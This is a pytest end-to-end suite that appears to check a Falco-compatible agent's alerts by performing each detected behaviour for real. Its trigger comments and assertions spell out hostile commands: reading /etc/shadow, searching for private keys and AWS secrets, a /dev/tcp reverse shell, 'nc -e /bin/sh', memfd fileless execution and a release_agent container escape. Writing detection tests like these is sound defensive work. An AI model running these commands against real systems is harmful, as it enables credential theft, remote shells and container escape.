"""Falco's stable rules, unchanged, against the real behaviour each one is written for.

One `andon run --rules falco_rules.yaml` serves the module. Each test performs the act for
real (``triggers.py``: real processes, files, podman containers, network namespaces; no
packet leaves the machine), then asserts the alert Falco would raise: the rule, the priority
as Falco prints it, and the output fields that say who did what. Alerts are matched by a
random marker the act put in a command line or a path, so tests do not see each other's.

Rules that cannot be triggered on this host, and why: docs/detections.md.

Needs root, the built BPF objects; container tests need podman, runc and the test image
(scripts/build-test-image.sh); the ssh test needs an ssh client, the netcat test
netcat-traditional (``nc.traditional``).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator

import pytest
import triggers as T
from agent import STABLE_RULES, AgentRun, Alert

pytestmark = pytest.mark.e2e


def _why_not_runnable() -> str | None:
    if os.geteuid() != 0:
        return "needs root (the live sensor)"
    try:
        import andon.app.agent  # noqa: F401
        import andon.rules.loader  # noqa: F401
    except ImportError as e:
        return f"`andon run` has not landed yet ({e})"
    return None


_reason = _why_not_runnable()
if _reason:
    pytestmark = [pytest.mark.e2e, pytest.mark.skip(reason=_reason)]


@pytest.fixture(scope="module")
def agent() -> Iterator[AgentRun]:
    with AgentRun(["--rules", str(STABLE_RULES)], ready_timeout=60) as a:
        yield a
    assert a.returncode == 0, "\n".join(a.stderr_lines[-20:])


@pytest.fixture
def cleanup() -> Iterator[T.Cleanup]:
    with T.Cleanup() as c:
        yield c


@pytest.fixture
def podman(cleanup: T.Cleanup) -> T.Podman:
    for tool in ("podman", "runc"):
        if not shutil.which(tool):
            pytest.skip(f"{tool} is not installed")
    if subprocess.run(["podman", "image", "exists", T.IMAGE]).returncode != 0:
        pytest.skip(f"{T.IMAGE} is missing: run scripts/build-test-image.sh")
    return T.Podman(cleanup)


def of(a: Alert, name: str) -> object:
    return a["output_fields"].get(name)


def cmdline_has(marker: str):
    return lambda a: marker in str(of(a, "proc.cmdline") or "")


def in_container(a: Alert, act: T.Act) -> None:
    """The alert names the container the act ran in.

    Falco (>= 0.40, default ``append_output: [suggested_output: true]``) appends the container
    plugin's suggested fields, ``container.id`` among them, to every alert; none of these rules
    prints it in its own output; andon does the same."""
    assert of(a, "container.id") == act.container_id
    assert f"container_id={act.container_id}" in a["output"]


def check(a: Alert, priority: str, text: str) -> None:
    """The priority as Falco prints it, and the rule's own output text."""
    assert a["priority"] == priority, a
    assert text in a["output"], a["output"]
    assert a["source"] == "syscall"


# -- files -----------------------------------------------------------------------------------
def test_directory_traversal_monitored_file_read(agent, cleanup):
    # TRIGGER: cat, started by this (non-shell) process, reads /etc/hostname via a/b/../../../../etc
    act = T.read_via_traversal(cleanup)
    assert act.out.strip()
    # ASSERT
    a = agent.wait_for("Directory traversal monitored file read", lambda a: act.marker in str(of(a, "fd.nameraw")))
    check(a, "Warning", "Read monitored file via directory traversal")
    assert of(a, "fd.name") == "/etc/hostname"
    assert of(a, "fd.nameraw") == act.raw
    assert of(a, "proc.name") == "cat"
    assert of(a, "evt.type") == "openat"


def test_read_sensitive_file_untrusted(agent, cleanup):
    # TRIGGER: cat /etc/shadow
    act = T.read_sensitive_file(cleanup)
    # ASSERT
    a = agent.wait_for("Read sensitive file untrusted", cmdline_has(act.marker))
    check(a, "Warning", "Sensitive file opened for reading by non-trusted program")
    assert of(a, "fd.name") == "/etc/shadow"
    assert of(a, "proc.name") == "cat"
    assert of(a, "proc.cmdline") == " ".join(act.argv)
    assert of(a, "evt.type") == "openat"


def test_read_sensitive_file_trusted_after_startup(agent, cleanup):
    # TRIGGER: a process named nginx, 6 s old, opens /etc/shadow
    act = T.server_reads_sensitive_file_after_startup(cleanup, server="nginx", after=6.0)
    # ASSERT
    a = agent.wait_for("Read sensitive file trusted after startup", cmdline_has(act.marker))
    check(a, "Warning", "Sensitive file opened for reading by trusted program after startup")
    assert of(a, "fd.name") == "/etc/shadow"
    assert of(a, "proc.name") == "nginx"
    assert of(a, "evt.type") == "openat"


def test_clear_log_activities(agent, cleanup):
    # TRIGGER: cp /dev/null <tmp>/auth.log (O_TRUNC)
    act = T.clear_log(cleanup)
    # ASSERT
    a = agent.wait_for("Clear Log Activities", lambda a: of(a, "fd.name") == act.path)
    check(a, "Warning", "Log files were tampered")
    assert of(a, "proc.name") == "cp"
    assert of(a, "proc.cmdline") == " ".join(act.argv)
    assert of(a, "evt.type") == "openat"


def test_create_symlink_over_sensitive_files(agent, cleanup):
    # TRIGGER: ln -s /etc/shadow <tmp>/link
    act = T.symlink_over(cleanup, "/etc/shadow")
    # ASSERT
    a = agent.wait_for("Create Symlink Over Sensitive Files", lambda a: of(a, "evt.arg.linkpath") == act.path)
    check(a, "Warning", "Symlinks created over sensitive files")
    assert of(a, "evt.arg.target") == "/etc/shadow"
    assert of(a, "proc.name") == "ln"
    assert of(a, "evt.type") == "symlinkat"


def test_create_hardlink_over_sensitive_files(agent, cleanup):
    # TRIGGER: ln /etc/shadow <tmp>/hard
    act = T.hardlink_over(cleanup, "/etc/shadow")
    assert act.extra["rc"] == 0
    # ASSERT
    a = agent.wait_for("Create Hardlink Over Sensitive Files", lambda a: of(a, "evt.arg.newpath") == act.path)
    check(a, "Warning", "Hardlinks created over sensitive files")
    assert of(a, "evt.arg.oldpath") == "/etc/shadow"
    assert of(a, "proc.name") == "ln"
    assert of(a, "evt.type") == "linkat"


# -- processes -------------------------------------------------------------------------------
def test_run_shell_untrusted(agent, cleanup):
    # TRIGGER: a process named nginx runs sh -c 'echo <marker>'
    act = T.server_spawns_shell(cleanup, server="nginx")
    assert act.out.strip() == act.marker
    # ASSERT
    a = agent.wait_for("Run shell untrusted", cmdline_has(act.marker))
    check(a, "Notice", "Shell spawned by untrusted binary")
    assert of(a, "proc.name") == "sh"
    assert of(a, "proc.pname") == "nginx"
    assert of(a, "proc.cmdline") == f"sh -c echo {act.marker}"
    assert of(a, "evt.type") == "execve"


def test_system_user_interactive(agent, cleanup):
    # TRIGGER: below a process named sshd, nobody runs echo <marker>
    act = T.system_user_in_ssh_session(cleanup)
    assert act.out.strip() == act.marker
    # ASSERT
    a = agent.wait_for("System user interactive", cmdline_has(act.marker))
    check(a, "Informational", "System user ran an interactive command")
    assert of(a, "user.name") == "nobody"
    assert of(a, "user.uid") == 65534
    assert of(a, "proc.name") == "echo"
    assert of(a, "proc.cmdline") == f"echo {act.marker}"


def test_search_private_keys_or_passwords(agent, cleanup):
    # TRIGGER: grep -rl "BEGIN RSA PRIVATE" <tmp>
    act = T.grep_private_keys(cleanup)
    assert act.out.strip().endswith("/id_rsa")
    # ASSERT
    a = agent.wait_for("Search Private Keys or Passwords", cmdline_has(act.marker))
    check(a, "Warning", "Grep private keys or passwords activities found")
    assert of(a, "proc.name") == "grep"
    assert of(a, "proc.cmdline") == " ".join(act.argv)
    assert of(a, "evt.type") == "execve"


@pytest.mark.parametrize("how", ["find", "grep"])
def test_find_aws_credentials(agent, cleanup, how):
    # TRIGGER: find <tmp> -path '*/.aws/credentials'  |  grep -r aws_secret_access_key <tmp>
    act = T.find_aws_credentials(cleanup) if how == "find" else T.grep_aws_credentials(cleanup)
    assert act.out.strip()
    # ASSERT
    a = agent.wait_for("Find AWS Credentials", cmdline_has(act.marker))
    check(a, "Warning", "Detected AWS credentials search activity")
    assert of(a, "proc.name") == how
    assert of(a, "proc.cmdline") == " ".join(act.argv)
    assert of(a, "evt.type") == "execve"


def test_remove_bulk_data_from_disk(agent, cleanup):
    # TRIGGER: shred -n 1 -u <tmp>/data.bin
    act = T.shred_file(cleanup)
    # ASSERT
    a = agent.wait_for("Remove Bulk Data from Disk", cmdline_has(act.marker))
    check(a, "Warning", "Bulk data has been removed from disk")
    assert of(a, "proc.name") == "shred"
    assert of(a, "proc.cmdline") == " ".join(act.argv)
    assert of(a, "proc.exepath") == "/usr/bin/shred"


def test_ptrace_attached_to_process(agent, cleanup):
    # TRIGGER: PTRACE_ATTACH to a sleep child, then detach
    act = T.ptrace_attach(cleanup)
    # ASSERT
    a = agent.wait_for("PTRACE attached to process", cmdline_has(act.marker))
    check(a, "Warning", "Detected ptrace PTRACE_ATTACH attempt")
    assert of(a, "evt.type") == "ptrace"
    assert of(a, "proc.exepath") == T.PYTHON
    assert of(a, "proc.name") == os.path.basename(T.PYTHON)


def test_ptrace_anti_debug_attempt(agent):
    # TRIGGER: ptrace(PTRACE_TRACEME)
    act = T.ptrace_traceme()
    # ASSERT
    a = agent.wait_for("PTRACE anti-debug attempt", cmdline_has(act.marker))
    check(a, "Notice", "Detected potential PTRACE_TRACEME anti-debug attempt")
    assert of(a, "evt.type") == "ptrace"
    assert of(a, "proc.exepath") == T.PYTHON


def test_execution_from_dev_shm(agent, cleanup):
    # TRIGGER: /dev/shm/<tmp>/echo <marker>
    act = T.exec_from_dev_shm(cleanup)
    # ASSERT
    a = agent.wait_for("Execution from /dev/shm", lambda a: of(a, "proc.exepath") == act.path)
    check(a, "Warning", "File execution detected from /dev/shm")
    assert of(a, "proc.name") == "echo"
    assert of(a, "proc.cmdline") == f"echo {act.marker}"
    assert of(a, "evt.type") == "execve"


def test_fileless_execution_via_memfd_create(agent):
    # TRIGGER: /bin/echo copied into memfd "<marker>" and exec'd through /proc/self/fd/N
    act = T.fileless_exec()
    # ASSERT
    a = agent.wait_for("Fileless execution via memfd_create", cmdline_has(act.marker))
    check(a, "Critical", "Fileless execution via memfd_create")
    assert f"memfd:{act.marker}" in str(of(a, "proc.exepath"))
    assert str(of(a, "proc.cmdline")).endswith(f" {act.marker}")
    assert of(a, "evt.type") == "execve"


# -- network ---------------------------------------------------------------------------------
def test_disallowed_ssh_connection_non_standard_port(agent, cleanup):
    if not shutil.which("ssh"):
        pytest.skip("no ssh client (apt-get install openssh-client)")
    # TRIGGER: ssh -p 4444 <marker>@192.0.2.x, in a namespace where that address is local
    act = T.ssh_to_port(cleanup, port=4444)
    assert "192.0.2." in act.out, act.out  # ssh reached the listener and gave up on its banner
    ip = act.extra["ip"]
    # ASSERT
    a = agent.wait_for("Disallowed SSH Connection Non Standard Port", cmdline_has(act.marker))
    check(a, "Notice", "Disallowed SSH Connection")
    assert str(of(a, "fd.name")).endswith(f"->{ip}:4444")
    assert of(a, "fd.rport") == 4444
    assert of(a, "proc.name") == "ssh"
    assert of(a, "evt.type") == "connect"


# -- containers ------------------------------------------------------------------------------
def test_terminal_shell_in_container(agent, podman):
    # TRIGGER: podman run -t ... bash -c ': <marker>; tty'
    act = T.terminal_shell_in_container(podman)
    # ASSERT
    a = agent.wait_for("Terminal shell in container", cmdline_has(act.marker))
    check(a, "Notice", "A shell was spawned in a container with an attached terminal")
    assert of(a, "proc.name") == "bash"
    assert of(a, "proc.tty") not in (0, None)
    assert of(a, "evt.type") == "execve"
    in_container(a, act)


def test_redirect_stdout_stdin_to_network_connection_in_container(agent, podman):
    # TRIGGER: bash -i >& /dev/tcp/127.0.0.1/4444 0>&1, to a listener in the same container
    act = T.reverse_shell_in_container(podman, port=4444)
    # ASSERT
    a = agent.wait_for("Redirect STDOUT/STDIN to Network Connection in Container", cmdline_has(act.marker))
    check(a, "Notice", "Redirect stdout/stdin to network connection")
    assert str(of(a, "fd.name")).endswith("->127.0.0.1:4444")
    assert of(a, "fd.rport") == 4444
    assert of(a, "evt.type") in ("dup2", "dup3")
    assert of(a, "proc.name") == "bash"
    in_container(a, act)


def test_netcat_remote_code_execution_in_container(agent, podman):
    nc = shutil.which("nc.traditional")
    if not nc:
        pytest.skip("netcat-traditional is not installed (apt-get install netcat-traditional)")
    # TRIGGER: nc 127.0.0.1 4444 -e /bin/sh, to an nc -l in the same container
    act = T.netcat_shell_in_container(podman, nc, port=4444)
    # ASSERT
    a = agent.wait_for("Netcat Remote Code Execution in Container", lambda a: of(a, "proc.exepath") == act.path)
    check(a, "Warning", "Netcat runs inside container that allows remote code execution")
    assert of(a, "proc.name") == "nc"
    assert of(a, "proc.cmdline") == "nc 127.0.0.1 4444 -e /bin/sh"
    assert of(a, "evt.type") == "execve"
    in_container(a, act)


def test_packet_socket_created_in_container(agent, podman):
    # TRIGGER: socket(AF_PACKET, SOCK_RAW, ETH_P_ALL) with CAP_NET_RAW
    act = T.packet_socket_in_container(podman)
    # ASSERT
    a = agent.wait_for("Packet socket created in container", cmdline_has(act.marker))
    check(a, "Notice", "Packet socket was created in a container")
    assert "AF_PACKET" in str(of(a, "evt.args"))
    assert of(a, "evt.type") == "socket"
    assert of(a, "proc.name") == "perl"
    in_container(a, act)


def test_linux_kernel_module_injection_detected(agent, podman):
    # TRIGGER: init_module() with a 64-byte non-module, CAP_SYS_MODULE granted; the kernel refuses it
    act = T.kernel_module_in_container(podman)
    # ASSERT
    a = agent.wait_for("Linux Kernel Module Injection Detected", cmdline_has(act.marker))
    check(a, "Warning", "Linux Kernel Module injection from container")
    assert of(a, "evt.type") == "init_module"
    assert of(a, "evt.res") != "SUCCESS"
    assert act.marker in str(of(a, "proc.args"))
    assert of(a, "proc.name") == "perl"
    in_container(a, act)


def test_debugfs_launched_in_privileged_container(agent, podman):
    # TRIGGER: podman exec <privileged container> debugfs -R 'stat /<marker>' /dev/null
    act = T.debugfs_in_privileged_container(podman)
    # ASSERT
    a = agent.wait_for("Debugfs Launched in Privileged Container", cmdline_has(act.marker))
    check(a, "Warning", "Debugfs launched started in a privileged container")
    assert of(a, "proc.name") == "debugfs"
    assert of(a, "proc.cmdline") == f"debugfs -R stat /{act.marker} /dev/null"
    assert of(a, "evt.type") == "execve"
    in_container(a, act)


def test_detect_release_agent_file_container_escapes(agent, podman):
    # TRIGGER: privileged container mounts a new cgroup v1 hierarchy, opens its release_agent for writing
    act = T.release_agent_in_container(podman)
    # ASSERT
    a = agent.wait_for("Detect release_agent File Container Escapes", lambda a: of(a, "fd.name") == act.path)
    check(a, "Critical", "Detect an attempt to exploit a container escape using release_agent file")
    assert "CAP_SYS_ADMIN" in str(of(a, "thread.cap_effective"))
    assert of(a, "proc.name") == "bash"
    assert of(a, "evt.type") == "openat"
    in_container(a, act)


def test_drop_and_execute_new_binary_in_container(agent, podman):
    # TRIGGER: cp /bin/echo /tmp/<marker>; /tmp/<marker> (an upper-layer executable)
    act = T.drop_and_exec_in_container(podman)
    # ASSERT
    a = agent.wait_for("Drop and execute new binary in container", lambda a: of(a, "proc.exe") == act.path)
    check(a, "Critical", "Executing binary not part of base image")
    assert of(a, "proc.name") == act.marker
    assert of(a, "proc.exepath") == act.path
    assert of(a, "evt.type") == "execve"
    in_container(a, act)


def test_contact_k8s_api_server_from_container(podman, cleanup):
    # TRIGGER: the API server's name resolves to 127.0.0.1 on this host (for the agent, as
    # Falco resolves fd.sip.name) and in the container (--add-host); a container connects to it
    # on 443, where a listener in its own loopback answers. A fresh agent, so that no earlier
    # lookup of the name is cached.
    m = T.new_marker()
    T.hosts_entry(cleanup, m, T.K8S_API_NAME, "127.0.0.1")
    with AgentRun(["--rules", str(STABLE_RULES)], ready_timeout=60) as agent:
        act = T.contact_k8s_api_in_container(podman, port=443)
        # ASSERT
        a = agent.wait_for("Contact K8S API Server From Container", cmdline_has(act.marker))
    check(a, "Notice", "Unexpected connection to K8s API Server from container")
    assert str(of(a, "fd.name")).endswith("->127.0.0.1:443")
    assert of(a, "fd.rport") == 443
    assert of(a, "evt.type") == "connect"
    in_container(a, act)
